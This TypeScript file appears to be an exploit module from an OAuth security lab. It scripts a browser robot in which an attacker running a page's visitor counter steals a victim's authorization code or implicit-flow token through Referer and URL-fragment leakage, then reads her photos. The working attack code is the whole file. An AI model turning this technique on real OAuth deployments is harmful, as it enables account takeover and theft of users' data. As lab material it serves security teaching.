import type { Page } from 'playwright'
import type { Answer, EvilPage, Place } from '../engine/lab.ts'
import { authorizationUrl, newVerifier, readPhotos, requestTokens } from '../engine/own-client.ts'
import { walkAsAlice, withRobot } from '../engine/robot.ts'

const LANDED = /\/spa\/callback/
const VERIFIER = 'a'.repeat(43)

/** What the counter answers: one pixel. */
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
export const evilPages = (): Record<string, EvilPage> => ({
  '/count.gif': (_req, res) => void res.setHeader('Content-Type', 'image/gif').end(PIXEL),
})

/** The token request for a code that came into the inbox. */
export const typed = ({ auth, shop }: Place): string => `POST ${auth}/token

grant_type=authorization_code
client_id=printshop-spa
redirect_uri=${shop}/spa/callback
code_verifier=${VERIFIER}
code=`

/**
 * Mallory, who counts the visitors of PrintShop’s page, sends Alice two links to CloudDrive. Each asks for PrintShop’s page, at
 * its right address: one for a code, the other for a token at once.
 */
export const attack = (place: Place): Promise<Answer> =>
  withRobot(async (page) => {
    await readWithCode(place, page)

    const forToken = new URL(question(place, newVerifier().code_challenge))
    forToken.searchParams.set('response_type', 'token')
    const [, answer] = await Promise.all([follow(page, forToken.href), firstAnswer(page, place)])
    if (answer.to.includes('error='))
      return { status: answer.status, text: decodeURIComponent(answer.to).replaceAll('+', ' ') }
    const { page: seen = '' } = Object.fromEntries(new URL(place.inbox.at(-1)?.path ?? '', place.evil).searchParams)
    return readPhotos(place, Object.fromEntries(new URLSearchParams(seen.split('#')[1])))
  })

/** A question of Alice’s own: its code is in the Referer too, and Mallory does not know the verifier. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  const asked = `${question(place, newVerifier().code_challenge)}&state=of-her-own-page`
  await withRobot((page) => follow(page, asked))
  return redeem(place, newVerifier().code_verifier)
}

// Mallory asked, so she knows the verifier.
async function readWithCode(place: Place, page: Page): Promise<void> {
  const { code_verifier, code_challenge } = newVerifier()
  await follow(page, question(place, code_challenge))
  const answer = await redeem(place, code_verifier)
  if (answer.status === 200) await readPhotos(place, answer.tokens)
}

// Without a state: nobody but Mallory waits for the answer.
function question(place: Place, code_challenge: string): string {
  const client = { client_id: 'printshop-spa', redirect_uri: `${place.shop}/spa/callback`, scope: 'photos.read' }
  const url = new URL(authorizationUrl(place, client, code_challenge))
  url.searchParams.delete('state')
  return url.href
}

// What her browser tells the counter is the browser’s own doing: in a Referer, and by the page’s script.
async function follow(page: Page, link: string): Promise<void> {
  const told = [/count\.gif$/, /count\.gif\?page=/].map((one) => page.waitForResponse(one))
  await walkAsAlice(page, link, { photos: 4, there: LANDED })
  await Promise.all(told)
}

/** What CloudDrive answers to a question first: where it sends her. */
async function firstAnswer(page: Page, { auth }: Place): Promise<{ status: number; to: string }> {
  const answer = await page.waitForResponse((one) => one.url().startsWith(`${auth}/authorize`))
  return { status: answer.status(), to: (await answer.headerValue('Location')) ?? '' }
}

function redeem(place: Place, code_verifier: string) {
  const referer = place.inbox.findLast((one) => one.referer.includes('code='))?.referer ?? place.shop
  const code = new URL(referer).searchParams.get('code') ?? 'none'
  const redirect_uri = `${place.shop}/spa/callback`
  const request = { grant_type: 'authorization_code', client_id: 'printshop-spa', redirect_uri, code, code_verifier }
  return requestTokens(place, request)
}
